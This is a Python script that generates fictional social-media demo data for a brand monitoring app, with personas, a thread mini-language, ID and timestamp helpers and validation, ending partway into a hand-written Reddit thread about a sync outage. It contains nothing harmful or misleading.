#!/usr/bin/env python3
"""Generate the Earshot demo workspace (demo.jsonl).

Fictional brand "Lumen Notes" with accounts on Mastodon, Bluesky and Reddit.
Standard library only, deterministic (fixed seed). Run:

    python3 crates/earshot-core/demo/generate.py

Conversations are written by hand in a small thread DSL (the THREADS string
at the end of this file); this script turns them into items with
realistic ids, timestamps, URLs and network-specific formatting, validates
the result and prints a summary.

Thread DSL
----------
    === <net> [at=DDTHH:MM] [d=A-B] [dm=N] [fast]
    speaker[lang]@delay: text            <- thread root (depth 0)
    > speaker@delay: text                <- reply to the last item at depth 0
    >> speaker@delay: text               <- reply to the last item at depth 1

net      m = mastodon, b = bluesky, r = reddit
at=      fixed root time (November 2026, UTC); d= day range for a random time
dm=N     direct-message conversation, root "dm:conv-N" on every item
fast     live event: short default reply delays, no night shift for our team
speaker  persona key, "us" (our brand account), "op" (the thread's root
         author), "anon", "anon2", ... (one-off people, stable per thread)
[xx]     non-English (or explicitly tagged) item; emits "lang": "xx"
{xx}     non-English item without a "lang" field (the app detects it)
@delay   e.g. @12m, @3h, @1d: time after the parent item (jittered);
         @=DDTHH:MM for an absolute time
text     "\\n" = newline; @LUMEN = mention of our account; {@key} = mention
         of a persona; #tag = hashtag; URLs are linkified on Mastodon.
         "HTML:" prefix = raw Mastodon HTML, used verbatim ({lumen} and
         {inst} are substituted) - for the sanitiser test items.
"""

from __future__ import annotations

import datetime as dt
import html as htmlmod
import json
import math
import random
import re
import sys
from collections import Counter, defaultdict
from pathlib import Path

SEED = 20261122
OUT = Path(__file__).resolve().parent / "demo.jsonl"

END = dt.datetime(2026, 11, 22, 16, 0, 0, tzinfo=dt.timezone.utc)
START = END - dt.timedelta(days=14)

rng = random.Random(SEED)

# ---------------------------------------------------------------------------
# Our accounts
# ---------------------------------------------------------------------------

OURS = {
    "mastodon": {
        "handle": "lumen@social.example",
        "name": "Lumen Notes",
        "followers": 18420,
        "url": "https://social.example/@lumen",
        "avatar": None,
    },
    "bluesky": {
        "handle": "lumennotes.bsky.example",
        "name": "Lumen Notes",
        "followers": 24913,
        "url": "https://bsky.example/profile/lumennotes.bsky.example",
        "avatar": None,
    },
    "reddit": {
        "handle": "u/LumenNotesTeam",
        "name": "Lumen Notes Team",
        "followers": 3120,
        "url": "https://www.reddit.example/user/LumenNotesTeam",
        "avatar": None,
    },
}
NET = {"m": "mastodon", "b": "bluesky", "r": "reddit"}

# ---------------------------------------------------------------------------
# Recurring people. Several have accounts on two networks with the same
# display name (for the "link identities" suggestion).
# ---------------------------------------------------------------------------

PERSONAS = {
    # key: (display name, {network: (handle, followers)})
    "maria": ("Maria Okafor", {"m": ("maria@fosstodon.example", 3412), "b": ("maria.bsky.example", 1187)}),
    "dana": ("Dana Whitfield", {"m": ("dana@journa.example", 41200), "b": ("danawhitfield.bsky.example", 248000)}),
    "tomas": ("Tomás Reyes", {"b": ("tomasreyes.bsky.example", 86400)}),
    "kenji": ("Kenji Watanabe", {"m": ("kenji@hachyderm.example", 12840), "b": ("kenji.bsky.example", 5310)}),
    "lena": ("Lena Brandt", {"m": ("lena@norden.example", 812), "b": ("lenabrandt.bsky.example", 304)}),
    "camille": ("Camille Dubois", {"m": ("camille@mamot.example", 2105), "b": ("camille.bsky.example", 640)}),
    "aisha": ("Aisha Rahman", {"m": ("aisha@mastodon.example", 1930), "r": ("u/aisha_writes", 8214)}),
    "ben": ("Ben Carter", {"m": ("ben@hachyderm.example", 688), "r": ("u/bencarter_dev", 3105)}),
    "ivy": ("Ivy Chen", {"m": ("ivy@mastodon.example", 7420), "b": ("ivychen.bsky.example", 15900)}),
    "theo": ("Theo Martin", {"m": ("theo@fosstodon.example", 256), "r": ("u/theo_m", 1402)}),
    "owen": ("Owen Price", {"m": ("owen@mastodon.example", 1044)}),
    "nadia": ("Nadia Petrova", {"m": ("nadia@fosstodon.example", 5630)}),
    "sven": ("Sven Holm", {"m": ("sven@fosstodon.example", 431)}),
    "eli": ("Eli Novak", {"m": ("eli@infosec.example", 22310)}),
    "felix": ("Felix Wagner", {"m": ("felix@norden.example", 377)}),
    "hannah": ("Hannah Lee", {"b": ("hannahlee.bsky.example", 212)}),
    "jordan": ("Jordan Ellis", {"b": ("jordanellis.bsky.example", 63800)}),
    "marcus": ("Marcus Bell", {"b": ("marcusbell.bsky.example", 97)}),
    "grace": ("Grace Adeyemi", {"b": ("grace.bsky.example", 1340)}),
    "rafael": ("Rafael Souza", {"b": ("rafasouza.bsky.example", 2870)}),
    "lucia": ("Lucía Fernández", {"b": ("luciafernandez.bsky.example", 1562)}),
    "quietkeys": ("quietkeys", {"r": ("u/quietkeys", 21430)}),
    "margin": ("margin_notes", {"r": ("u/margin_notes", 12077)}),
    "pete": ("PaperCutPete", {"r": ("u/PaperCutPete", 6890)}),
    "nightowl": ("nightowl_pm", {"r": ("u/nightowl_pm", 2241)}),
    "syncwoes": ("throwaway_sync_woes", {"r": ("u/throwaway_sync_woes", 23)}),
    # impersonation / scam account (sanitiser test item)
    "scam": ("Lumen Notes Rewards 🎁", {"m": ("lumennotes_gift@mstdn.example", 4)}),
}

# One-off people. Names per language so that non-English items get
# plausible authors.
ANON_NAMES = {
    # English one-offs are kept disjoint per network on purpose: only the
    # recurring personas above should look like the same person on two networks.
    "en_m": [
        "Amelia Ross", "Jamal Wright", "Priscilla Tan", "Connor Walsh", "Yusuf Demir", "Marco Bianchi",
        "Daniel Osei", "Ruth Abernathy", "Sanjay Iyer", "Freya Lund", "Ahmed Farouk", "Jonah Fisher",
        "Lars Eriksen", "Kwame Mensah", "Pavel Horak", "Leah Cohen", "Finn O'Reilly", "Nora Haddad",
        "Victor Lindqvist", "Keiko Sato", "Gabe Thornton", "Dmitri Volkov", "Clara Jensen", "Tasha Greene",
        "Wes Calloway", "Hiro Tanaka", "Ingrid Solberg", "Matt Kowalski", "Rosa Delgado", "Oskar Nyberg",
        "Aoife Byrne", "Tomasz Nowak", "Elliot Shaw", "Fatima Zahra", "Jules Carpenter", "Chidi Eze",
        "Greta Lind", "Colin Baxter", "Ayesha Malik", "Rory Campbell", "Hanna Virtanen", "Esther Kaplan",
        "Aleks Petrov", "Moritz Bauer", "Iris van Dijk", "Luca Ferri", "Magnus Dahl", "June Whitaker",
        "Tariq Aziz", "Viv Morgan",
    ],
    "en_b": [
        "Hailey Brooks", "Zoe Kim", "Chloe Martin", "Mateo Rossi", "Olivia Marsh", "Ravi Menon",
        "Sophie Tremblay", "Noah Bergstrom", "Imani Johnson", "Arjun Shah", "Bella Moreno", "Samira Okoye",
        "Emily Zhou", "Anika Roy", "Yara Nasser", "Ella Nowicki", "Maya Patel", "Tyler Brooks", "Jess Alvarez",
        "Kayla Nguyen", "Dev Kapoor", "Lily Harper", "Aiden Clarke", "Nia Roberts", "Brianna Scott", "Evan Liu",
        "Sofia Greco", "Tom Becker", "Riley Parker", "Hana Yoshida", "Caleb Stone", "Jasmine Ali",
        "Ethan Morales", "Kiara Davis", "Leo Hartmann", "Abby Fisher", "Naomi Fox", "Sami Haddad",
        "Quinn Murphy", "Priyanka Das", "Max Keller", "Alicia Romero", "Rhea Kapur", "Dylan Cho",
        "Tess Morgan", "Vik Raman", "Zara Ahmed", "Carter Hughes",
    ],
    "de": ["Jana Hoffmann", "Tobias Krüger", "Miriam Vogel", "Lukas Schäfer"],
    "fr": ["Julien Moreau", "Élodie Lambert", "Hugo Girard", "Manon Lefèvre"],
    "es": ["Diego Ramírez", "Carmen Ortega", "Pablo Navarro"],
    "pt": ["Beatriz Lima", "Thiago Alves", "Larissa Costa"],
}
MASTO_INSTANCES = {
    "en_m": ["mastodon.example", "fosstodon.example", "hachyderm.example", "mstdn.example", "techhub.example",
           "mastodon.example", "fosstodon.example"],
    "de": ["norden.example", "chaos.example"],
    "fr": ["mamot.example", "piaille.example"],
    "es": ["mastodon.example"],
    "pt": ["mastodon.example"],
}
REDDIT_ANON = [
    "coffee_and_margins", "Delta_Sierra_7", "mossy_keyboard", "grad_student_no_sleep", "TheRealKlausB",
    "pinecone_dev", "lowercase_laura", "quantum_toast", "itsjustmattR", "fern_and_ink", "bytesized_barb",
    "notsureifserious", "OrbitalPancake", "tidy_chaos", "wandering_ledger", "midnight_cartographer",
    "SeriousSnail42", "paper_plane_pilot", "kettle_on_again", "burnt_toast_club", "dunmore_drift",
    "Anxious_Otter_99", "salt_and_static", "m4rgot", "lofi_librarian", "thecluelessadmin",
    "ProcrastinatorPrime", "greyhound_gregor", "nomadic_notes", "ok_but_why_tho", "crumb_collector",
    "late_night_latte", "Vector_Vagabond", "hexagonal_hat", "fig_and_thistle", "the_quiet_compiler",
    "sporadic_sparrow", "TurnipTheBeet", "cobalt_kestrel", "SundayScaries_", "inkblot_ivan",
    "mildly_caffeinated", "spreadsheet_sal", "deadline_dodger", "plaid_platypus", "octal_otter",
    "rainy_day_reader", "gnome_on_wayland",
]


def anon_followers() -> int:
    return max(20, min(14000, int(math.exp(rng.gauss(5.3, 1.25)))))


def slugify(s: str) -> str:
    s = re.sub(r"[^a-z0-9]+", "_", s.lower()).strip("_")
    return s[:50].rstrip("_")


class People:
    """Resolves speakers to author objects, creating one-off people on demand."""

    def __init__(self) -> None:
        self.used_handles: set[str] = set()
        self.anon_cache: dict[tuple[str, str], dict] = {}
        self.reddit_pool = REDDIT_ANON[:]
        rng.shuffle(self.reddit_pool)
        self.name_pool = {k: v[:] for k, v in ANON_NAMES.items()}
        for v in self.name_pool.values():
            rng.shuffle(v)
        self.name_idx = Counter()
        self.reddit_idx = 0
        for _, nets in PERSONAS.values():
            for h, _ in nets.values():
                self.used_handles.add(h)

    def persona(self, key: str, net: str) -> dict:
        name, nets = PERSONAS[key]
        if net not in nets:
            raise SystemExit(f"persona {key} has no {NET[net]} account")
        handle, followers = nets[net]
        return make_author(net, handle, name, followers)

    def new_anon(self, net: str, lang: str) -> dict:
        if net == "r":
            # the pool wraps around deliberately: some one-off redditors come back
            u = self.reddit_pool[self.reddit_idx % len(self.reddit_pool)]
            self.reddit_idx += 1
            key = ("r", u)
            if key not in self.anon_cache:
                self.anon_cache[key] = make_author(net, "u/" + u, u, anon_followers())
            return self.anon_cache[key]
        if lang == "en":
            lang = "en_m" if net == "m" else "en_b"
        pool = self.name_pool[lang]
        # allow reuse of names across threads (people do come back), but
        # cycle through the pool first
        name = pool[self.name_idx[lang] % len(pool)]
        self.name_idx[lang] += 1
        key = (net, name)
        if key in self.anon_cache:
            return self.anon_cache[key]
        first, last = name.split(" ", 1)
        f = ascii_fold(first).lower()
        l = ascii_fold(last).lower().replace("'", "").replace(" ", "")
        if net == "m":
            user = rng.choice([f, f + l[0], f[0] + l, f + "_" + l[:3], f + str(rng.randint(2, 99))])
            inst = rng.choice(MASTO_INSTANCES[lang])
            handle = f"{user}@{inst}"
        else:
            handle = rng.choice([f"{f}{l}.bsky.example", f"{f}.bsky.example", f"{f}-{l}.bsky.example",
                                 f"{f}{l[0]}.bsky.example"])
        while handle in self.used_handles:
            handle = handle.replace(".", str(rng.randint(1, 9)) + ".", 1)
        self.used_handles.add(handle)
        a = make_author(net, handle, name, anon_followers())
        self.anon_cache[key] = a
        return a


def ascii_fold(s: str) -> str:
    table = str.maketrans("áàâäãéèêëíìîïóòôöõúùûüçñÁÉÍÓÚÇÑ", "aaaaaeeeeiiiiooooouuuucnAEIOUCN")
    return s.translate(table)


def make_author(net: str, handle: str, name: str, followers: int) -> dict:
    if net == "m":
        user, inst = handle.split("@")
        url = f"https://{inst}/@{user}"
    elif net == "b":
        url = f"https://bsky.example/profile/{handle}"
    else:
        url = f"https://www.reddit.example/user/{handle[2:]}"
    return {"handle": handle, "name": name, "followers": followers, "url": url, "avatar": None}


def our_author(net: str) -> dict:
    return dict(OURS[NET[net]])


# ---------------------------------------------------------------------------
# IDs
# ---------------------------------------------------------------------------

B32_SORT = "234567abcdefghijklmnopqrstuvwxyz"
B32_DID = "abcdefghijklmnopqrstuvwxyz234567"
B36 = "0123456789abcdefghijklmnopqrstuvwxyz"


def b36(n: int) -> str:
    out = ""
    while n:
        n, r = divmod(n, 36)
        out = B36[r] + out
    return out or "0"


def tid(t: dt.datetime) -> str:
    micros = int(t.timestamp() * 1_000_000) + rng.randint(0, 999_999)
    v = (micros << 10) | rng.randint(0, 1023)
    s = ""
    for i in range(13):
        s = B32_SORT[v & 31] + s
        v >>= 5
    return s


def new_did() -> str:
    return "did:plc:" + "".join(rng.choice(B32_DID) for _ in range(24))


DIDS: dict[str, str] = {}


def did_for(handle: str) -> str:
    if handle not in DIDS:
        DIDS[handle] = new_did()
    return DIDS[handle]


USED_IDS: dict[str, set] = defaultdict(set)


def mastodon_id(t: dt.datetime) -> str:
    while True:
        ms = int(t.timestamp() * 1000)
        i = str((ms << 16) | rng.randint(0, 0xFFFF))
        if i not in USED_IDS["mastodon"]:
            USED_IDS["mastodon"].add(i)
            return i


def reddit_id(t: dt.datetime, post: bool) -> str:
    secs = (t - START).total_seconds()
    while True:
        if post:
            n = int("1ox0000", 36) + int(secs * 0.35) + rng.randint(0, 400)
        else:
            n = int("m7a0000", 36) + int(secs * 19) + rng.randint(0, 9000)
        i = b36(n)
        if i not in USED_IDS["reddit"]:
            USED_IDS["reddit"].add(i)
            return i


# ---------------------------------------------------------------------------
# Time
# ---------------------------------------------------------------------------

HOUR_W = [2, 1.5, 1, 0.8, 0.7, 0.8, 1.2, 2, 3, 4, 4.5, 4.5, 5, 5.5, 6, 6.2, 6, 5.5, 5, 4.5, 4, 3.5, 3, 2.5]
DAY_W = [1.2, 1.1, 1.05, 1.15, 1.1, 0.42, 0.38]  # Mon..Sun


def nov(day: int, hh: int = 0, mm: int = 0) -> dt.datetime:
    return dt.datetime(2026, 11, day, hh, mm, tzinfo=dt.timezone.utc)


def sample_root_time(d0: int, d1: int) -> dt.datetime:
    slots, weights = [], []
    t = max(nov(d0), START)
    t = t.replace(minute=0, second=0)
    stop = min(nov(d1) + dt.timedelta(days=1), END)
    while t < stop:
        if t >= START:
            slots.append(t)
            weights.append(HOUR_W[t.hour] * DAY_W[t.weekday()])
        t += dt.timedelta(hours=1)
    slot = rng.choices(slots, weights)[0]
    return slot + dt.timedelta(seconds=rng.randint(0, 3599))


def parse_delay(spec: str | None, who: str, fast: bool) -> dt.timedelta:
    if spec and spec.startswith("="):
        return dt.timedelta(0)  # absolute time, handled by the caller
    if spec:
        n, unit = float(spec[:-1]), spec[-1]
        mins = n * {"m": 1, "h": 60, "d": 1440}[unit]
        mins *= rng.uniform(0.8, 1.25)
    elif fast:
        mins = rng.uniform(1, 20)
    elif who == "us":
        mins = min(1200, max(10, math.exp(rng.gauss(math.log(120), 0.9))))
    else:
        mins = min(480, max(2, math.exp(rng.gauss(math.log(45), 1.1))))
    return dt.timedelta(seconds=max(40, int(mins * 60) + rng.randint(-20, 20)))


def office_hours(t: dt.datetime) -> dt.datetime:
    """Our team does not answer between 00:00 and 07:00 UTC."""
    if t.hour < 7:
        return t.replace(hour=7, minute=rng.randint(2, 50), second=rng.randint(0, 59))
    return t


def iso(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


# ---------------------------------------------------------------------------
# Rendering
# ---------------------------------------------------------------------------

LINK_ATTRS = 'rel="nofollow noopener noreferrer" translate="no" target="_blank"'
URL_RE = re.compile(r"https?://[^\s<]+[^\s<.,;:!?)\]'\"]")
TOKEN_RE = re.compile(r"(@LUMEN|\{@[a-z]+\}|https?://[^\s]+[^\s.,;:!?)\]'\"]|(?<![\w&/])#[A-Za-z][A-Za-z0-9_]*)")


def hcard(url: str, user: str) -> str:
    return (f'<span class="h-card" translate="no"><a href="{url}" class="u-url mention">'
            f'@<span>{user}</span></a></span>')


def masto_link(url: str) -> str:
    scheme, rest = url.split("://", 1)
    if len(rest) > 30:
        vis = f'<span class="ellipsis">{htmlmod.escape(rest[:30])}</span><span class="invisible">{htmlmod.escape(rest[30:])}</span>'
    else:
        vis = f'<span class="">{htmlmod.escape(rest)}</span><span class="invisible"></span>'
    return (f'<a href="{htmlmod.escape(url)}" {LINK_ATTRS}>'
            f'<span class="invisible">{scheme}://</span>{vis}</a>')


def masto_hcard_for(author: dict) -> str:
    user = author["handle"].split("@")[0]
    return hcard(author["url"], user)


LUMEN_HCARD = hcard("https://social.example/@lumen", "lumen")


def esc(s: str) -> str:
    return htmlmod.escape(s, quote=True).replace("&#x27;", "&#39;")


def render_mastodon(text: str, author: dict, lead: list[dict]) -> str:
    inst = author["handle"].split("@")[1]
    if text.startswith("HTML:"):
        return text[5:].replace("{lumen}", LUMEN_HCARD).replace("{inst}", inst)
    paras = text.split("\n\n")
    out = []
    for pi, para in enumerate(paras):
        lines = []
        for line in para.split("\n"):
            parts = TOKEN_RE.split(line)
            buf = []
            for i, part in enumerate(parts):
                if i % 2 == 0:
                    buf.append(esc(part))
                elif part == "@LUMEN":
                    buf.append(LUMEN_HCARD)
                elif part.startswith("{@"):
                    buf.append(masto_hcard_for(PEOPLE.persona(part[2:-1], "m")))
                elif part.startswith("http"):
                    buf.append(masto_link(part))
                else:
                    tag = part[1:]
                    buf.append(f'<a href="https://{inst}/tags/{tag.lower()}" class="mention hashtag" rel="tag">#<span>{tag}</span></a>')
            lines.append("".join(buf))
        body = "<br>".join(lines)
        if pi == 0 and lead:
            body = " ".join(masto_hcard_for(a) if a is not None else LUMEN_HCARD for a in lead) + " " + body
        out.append(f"<p>{body}</p>")
    return "".join(out)


def render_plain(text: str, net: str) -> str:
    def sub(m: re.Match) -> str:
        tok = m.group(0)
        if tok == "@LUMEN":
            return "@" + OURS["bluesky"]["handle"] if net == "b" else OURS["reddit"]["handle"]
        if tok.startswith("{@"):
            return ("@" if net == "b" else "") + PEOPLE.persona(tok[2:-1], net)["handle"]
        if tok.startswith("http") and net == "b":
            return tok.split("://", 1)[1]  # Bluesky shows links without scheme
        return tok
    return TOKEN_RE.sub(sub, text)


def visible_text(html: str) -> str:
    s = re.sub(r"<br\s*/?>", "\n", html)
    s = re.sub(r"</p><p>", "\n\n", s)
    s = re.sub(r'<span class="invisible">.*?</span>', "", s)
    s = re.sub(r"<[^>]+>", "", s)
    return htmlmod.unescape(s)


# ---------------------------------------------------------------------------
# Thread parsing
# ---------------------------------------------------------------------------

LINE_RE = re.compile(r"^(>*)\s*([a-z0-9]+)(\[[a-z]{2}\]|\{[a-z]{2}\})?(?:@(\d+(?:\.\d+)?[mhd]|=\d+T\d\d:\d\d))?:\s(.*)$")


def parse_threads(src: str) -> list[dict]:
    threads = []
    cur = None
    for lineno, raw in enumerate(src.splitlines(), 1):
        line = raw.rstrip()
        if not line.strip() or line.startswith("%%"):
            continue
        if line.startswith("==="):
            opts = line[3:].split()
            cur = {"net": opts[0], "at": None, "days": (8, 22), "dm": None, "fast": False, "msgs": [], "line": lineno}
            for o in opts[1:]:
                if o.startswith("at="):
                    d, hm = o[3:].split("T")
                    h, mi = hm.split(":")
                    cur["at"] = nov(int(d), int(h), int(mi))
                elif o.startswith("d="):
                    a, _, b = o[2:].partition("-")
                    cur["days"] = (int(a), int(b or a))
                elif o.startswith("dm="):
                    cur["dm"] = int(o[3:])
                elif o == "fast":
                    cur["fast"] = True
                else:
                    raise SystemExit(f"line {lineno}: bad option {o}")
            threads.append(cur)
            continue
        m = LINE_RE.match(line)
        if not m or cur is None:
            raise SystemExit(f"line {lineno}: cannot parse: {line[:80]}")
        depth = len(m.group(1))
        lang = m.group(3)
        msg = {
            "depth": depth,
            "who": m.group(2),
            "lang": lang[1:3] if lang else None,
            "lang_field": bool(lang and lang.startswith("[")),
            "delay": m.group(4),
            "text": m.group(5).replace("\\n", "\n"),
            "line": lineno,
        }
        if not cur["msgs"] and depth != 0:
            raise SystemExit(f"line {lineno}: thread must start at depth 0")
        if cur["msgs"]:
            stack = [i for i, x in enumerate(cur["msgs"]) if x["depth"] == depth - 1]
            if depth == 0 or not stack:
                raise SystemExit(f"line {lineno}: no parent at depth {depth - 1}")
            msg["parent"] = stack[-1]
        else:
            msg["parent"] = None
        cur["msgs"].append(msg)
    return threads


# ---------------------------------------------------------------------------
# Build
# ---------------------------------------------------------------------------

PEOPLE: People


def build(threads: list[dict]) -> list[dict]:
    items = []
    for ti, th in enumerate(threads):
        net = th["net"]
        network = NET[net]
        # resolve speakers
        anons: dict[str, dict] = {}
        authors = []
        for msg in th["msgs"]:
            w = msg["who"]
            if w == "us":
                a = our_author(net)
            elif w == "op":
                a = authors[0]
            elif w.startswith("anon"):
                if w not in anons:
                    anons[w] = PEOPLE.new_anon(net, msg["lang"] or "en")
                a = anons[w]
            else:
                a = PEOPLE.persona(w, net)
            authors.append(a)
        # timestamps (retry the random root time until the thread fits)
        for attempt in range(200):
            root_t = th["at"] or sample_root_time(*th["days"])
            times = []
            for i, msg in enumerate(th["msgs"]):
                if i == 0:
                    times.append(root_t)
                    continue
                if msg["delay"] and msg["delay"].startswith("="):
                    d, hm = msg["delay"][1:].split("T")
                    t = nov(int(d), *map(int, hm.split(":"))) + dt.timedelta(seconds=rng.randint(0, 59))
                else:
                    t = times[msg["parent"]] + parse_delay(msg["delay"], msg["who"], th["fast"])
                if msg["who"] == "us" and not th["fast"]:
                    t = office_hours(t)
                times.append(t)
            if max(times) <= END and root_t >= START:
                break
            if th["at"]:
                raise SystemExit(f"thread at line {th['line']} does not fit the window: {iso(max(times))}")
        else:
            raise SystemExit(f"thread at line {th['line']} never fit the window")

        dm_root = f"dm:conv-{th['dm']}" if th["dm"] else None
        convo = f"3l{''.join(rng.choice(B32_SORT) for _ in range(11))}" if (dm_root and net == "b") else None
        root_mentions_us = (th["msgs"][0]["who"] == "us") or "@LUMEN" in th["msgs"][0]["text"] or net == "m"
        recs = []
        slug = None
        for i, msg in enumerate(th["msgs"]):
            a, t = authors[i], times[i]
            is_us = msg["who"] == "us"
            parent = recs[msg["parent"]] if msg["parent"] is not None else None
            parent_is_us = parent is not None and authors[msg["parent"]]["handle"] == OURS[network]["handle"]
            rec = {"network": network}
            # id + url
            if net == "m":
                iid = mastodon_id(t)
                user, inst = a["handle"].split("@")
                url = f"https://{inst}/@{user}/{iid}"
            elif net == "b":
                r = tid(t)
                if dm_root:
                    iid, url = r, f"https://bsky.example/messages/{convo}"
                else:
                    iid = f"at://{did_for(a['handle'])}/app.bsky.feed.post/{r}"
                    url = f"https://bsky.example/profile/{a['handle']}/post/{r}"
            else:
                if i == 0:
                    pid = reddit_id(t, True)
                    title = msg["text"].split("\n", 1)[0]
                    slug = slugify(title)
                    iid = "t3_" + pid
                    url = f"https://www.reddit.example/r/LumenNotes/comments/{pid}/{slug}/"
                    post36 = pid
                else:
                    cid = reddit_id(t, False)
                    iid = "t1_" + cid
                    url = f"https://www.reddit.example/r/LumenNotes/comments/{post36}/{slug}/{cid}/"
            rec["id"] = iid
            rec["account"] = OURS[network]["handle"]
            # body
            lead = []
            if net == "m":
                if dm_root:
                    lead = [None] if not is_us else [authors[0] if not th["msgs"][0]["who"] == "us" else authors[1]]
                elif parent is not None:
                    pa = authors[msg["parent"]]
                    if pa["handle"] != a["handle"]:
                        lead.append(None if parent_is_us else pa)
                    if (not is_us and not parent_is_us and root_mentions_us and "@LUMEN" not in msg["text"]
                            and rng.random() < 0.5):
                        lead.append(None)
                elif not is_us and "@LUMEN" not in msg["text"] and not msg["text"].startswith("HTML:"):
                    lead = [None]
                body = render_mastodon(msg["text"], a, lead)
                mentions_us = LUMEN_HCARD in body
            else:
                body = render_plain(msg["text"], net)
                mentions_us = "@LUMEN" in msg["text"]
            # kind
            if dm_root:
                kind = "dm"
            elif is_us:
                kind = "post" if i == 0 else "reply"
            elif net == "r":
                kind = "post" if i == 0 else "comment"
            elif i == 0:
                kind = "mention"
            elif parent_is_us:
                kind = "reply"
            else:
                kind = "mention" if mentions_us else "reply"
            if i == 0 and not is_us and not dm_root and net != "r" and not mentions_us:
                raise SystemExit(f"line {msg['line']}: root mention does not mention us")
            rec["kind"] = kind
            rec["author"] = a
            if net == "m":
                rec["html"] = body
            else:
                rec["text"] = body
            rec["created_at"] = iso(t)
            if parent is not None:
                rec["parent"] = parent["id"]
            if dm_root:
                rec["root"] = dm_root
            elif parent is not None:
                if net != "m" or rng.random() < 0.4:
                    rec["root"] = recs[0]["id"]
            rec["url"] = url
            if msg["lang_field"]:
                rec["lang"] = msg["lang"]
            rec["_meta"] = {"thread": ti, "depth": msg["depth"], "lang": msg["lang"] or "en", "us": is_us,
                            "line": msg["line"], "t": t}
            recs.append(rec)
        items.extend(recs)
    return items


# ---------------------------------------------------------------------------
# Validation + summary
# ---------------------------------------------------------------------------

def validate(items: list[dict]) -> None:
    errors = []
    by_net = defaultdict(dict)
    for it in items:
        if it["id"] in by_net[it["network"]]:
            errors.append(f"duplicate id {it['id']}")
        by_net[it["network"]][it["id"]] = it
    for it in items:
        idx = by_net[it["network"]]
        line = it["_meta"]["line"]
        for f in ("parent", "root"):
            ref = it.get(f)
            if ref is None or ref.startswith("dm:"):
                continue
            if ref not in idx:
                errors.append(f"line {line}: {f} {ref} missing")
            elif idx[ref]["_meta"]["t"] >= it["_meta"]["t"]:
                errors.append(f"line {line}: {f} not older than child")
        if it["kind"] == "dm" and not str(it.get("root", "")).startswith("dm:"):
            errors.append(f"line {line}: dm without dm root")
        if it["network"] == "bluesky" and it["kind"] != "dm" and "parent" in it and "root" not in it:
            errors.append(f"line {line}: bluesky reply without root")
        if it["network"] == "bluesky" and len(it["text"]) >= 300 and it["kind"] != "dm":
            errors.append(f"line {line}: bluesky text {len(it['text'])} chars")
        if it["network"] == "mastodon" and len(visible_text(it["html"])) >= 500:
            errors.append(f"line {line}: mastodon text {len(visible_text(it['html']))} chars")
        if not (START <= it["_meta"]["t"] <= END):
            errors.append(f"line {line}: time out of range")
        if it["author"]["handle"] == it["account"] and it["kind"] not in ("reply", "post", "dm"):
            errors.append(f"line {line}: our item has kind {it['kind']}")
        blob = json.dumps({k: v for k, v in it.items() if k != "_meta"}, ensure_ascii=False)
        for host in re.findall(r"https?://([^/\\\"'\s<>?#]+)", blob):
            if not (host.endswith(".example") or host in ("example.com", "example.org")
                    or host.endswith(".example.com") or host.endswith(".example.org")):
                errors.append(f"line {line}: non-example host {host}")
    if errors:
        print("\n".join(errors[:50]), file=sys.stderr)
        raise SystemExit(f"{len(errors)} validation errors")


def summary(items: list[dict]) -> str:
    threads = defaultdict(list)
    for it in items:
        threads[it["_meta"]["thread"]].append(it)
    ours = [it for it in items if it["_meta"]["us"]]
    answered = sum(1 for th in threads.values() if any(x["_meta"]["us"] and x["_meta"]["depth"] > 0 for x in th))
    sizes = sorted(len(th) for th in threads.values())
    lines = [
        f"items: {len(items)}",
        "per network: " + ", ".join(f"{k} {v} ({v / len(items):.0%})" for k, v in
                                   sorted(Counter(i['network'] for i in items).items())),
        "per kind: " + ", ".join(f"{k} {v}" for k, v in sorted(Counter(i['kind'] for i in items).items())),
        f"conversations: {len(threads)} (dm: {sum(1 for th in threads.values() if th[0]['kind'] == 'dm')}); "
        f"sizes 1-3: {sum(1 for s in sizes if s <= 3)}, 4-8: {sum(1 for s in sizes if 4 <= s <= 8)}, "
        f"9-14: {sum(1 for s in sizes if 9 <= s <= 14)}, 15+: {[s for s in sizes if s >= 15]}",
        f"max depth: {max(i['_meta']['depth'] for i in items)}",
        f"our items: {len(ours)} (replies {sum(1 for i in ours if i['kind'] == 'reply')}, "
        f"posts {sum(1 for i in ours if i['kind'] == 'post')}, dms {sum(1 for i in ours if i['kind'] == 'dm')}); "
        f"conversations answered by us: {answered}/{len(threads)} ({answered / len(threads):.0%})",
        "non-English items: " + str(sum(1 for i in items if i['_meta']['lang'] != 'en')) + " ("
        + ", ".join(f"{k} {v}" for k, v in sorted(Counter(i['_meta']['lang'] for i in items
                                                           if i['_meta']['lang'] != 'en').items()))
        + f"); items with a lang field: {sum(1 for i in items if 'lang' in i)}",
        f"distinct authors: {len({(i['network'], i['author']['handle']) for i in items})}",
        f"time range: {min(i['created_at'] for i in items)} .. {max(i['created_at'] for i in items)}",
    ]
    return "\n".join(lines)


def main() -> None:
    global PEOPLE
    PEOPLE = People()
    from_here = Path(__file__).resolve().parent
    threads = parse_threads(THREADS)
    items = build(threads)
    validate(items)
    items.sort(key=lambda i: (i["_meta"]["t"], i["network"], i["id"]))
    with open(OUT, "w", encoding="utf-8", newline="\n") as f:
        for it in items:
            rec = {k: v for k, v in it.items() if k != "_meta"}
            f.write(json.dumps(rec, ensure_ascii=False) + "\n")
    # re-read as a final check: valid JSON, UTF-8
    with open(OUT, encoding="utf-8") as f:
        n = sum(1 for line in f if json.loads(line))
    assert n == len(items)
    print(f"wrote {OUT.relative_to(from_here.parent.parent.parent)} ({n} lines)")
    print(summary(items))


# ---------------------------------------------------------------------------
# Content
# ---------------------------------------------------------------------------

THREADS = r"""
%% ======================================================================
%% LONG THREADS
%% ======================================================================

%% Reddit: the Nov 17 sync outage megathread
=== r at=17T14:31 fast
syncwoes: Sync is down?? "Couldn't reach Lumen servers (503)" on every device\n\nDesktop, iPhone and web all stuck on "Syncing…" for the last 20 minutes. Web app just shows the spinner. I have a client presentation at 4 and my notes are on the laptop I left at home. Is this just me?
> quietkeys@3m: Not just you. Web app is 503ing for me too, EU here. Status page still says all green which is... a choice.
>> nightowl@2m: Same in Chicago. Desktop app says "last synced 14:09".
>>> anon@4m: Phew, I thought I'd broken something by updating to 4.2. Android here, same error.
> pete@6m: Tip while you wait: desktop and mobile keep everything locally, so you can still open and edit notes. It'll merge once sync is back. Just don't reinstall anything.
>> op@3m: That's the problem, the laptop with the local copy is at home. The web app was supposed to be my backup.
>>> pete@5m: Ugh. If your phone ever opened that notebook it should have a local copy too. Check Settings → Storage → "Keep offline".
